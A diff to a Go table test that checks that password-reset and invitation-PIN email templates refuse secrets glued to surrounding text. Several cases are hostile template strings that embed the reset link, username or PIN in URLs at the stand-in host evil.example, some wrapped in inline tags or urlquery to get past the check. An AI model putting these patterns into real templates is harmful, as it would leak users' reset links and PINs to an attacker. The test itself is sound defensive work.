@@ -18,6 +18,8 @@ func TestCheckSourceRefusesGluedOrComputedSecret(t *testing.T) {
 		{"glued to another action", TemplatePasswordRequest, `<p>{{.Username}}{{.Link}}</p>`, goodText, "html", "stand alone"},
 		{"glued around an if", TemplatePasswordRequest, `<p>https://evil.example/?u={{if .Username}}{{.Link}}{{end}}</p>`, goodText, "html", "stand alone"},
 		{"PIN glued in HTML", TemplateInvitationPIN, `<p>https://evil.example/?p={{.PIN}}</p>{{template "code" .PIN}}`, "{{.PIN}}", "html", "stand alone"},
+		{"inline tag between prefix and secret", TemplatePasswordRequest, `<p>https://evil.example/r?u=<b>{{.Link}}</b></p>`, goodText, "html", "stand alone"},
+		{"inline tag between secret and suffix", TemplatePasswordRequest, `<p><span>{{.Link}}</span>.evil.example</p>`, goodText, "html", "stand alone"},
 		{"tag dropped by the allowlist", TemplatePasswordRequest, `<p>https://evil.example/r?u=<a href="{{.Username}}">{{.Link}}</a></p>`, goodText, "html", "stand alone"},
 		{"review: urlquery pipeline in text", TemplatePasswordRequest, goodHTML, "https://evil.example/r?u={{.Link | urlquery}}", "text", "{{.Link | urlquery}}"},
 		{"glued URL prefix in text", TemplatePasswordRequest, goodHTML, "Reset: https://evil.example/r?u={{.Link}}", "text", "stand alone"},
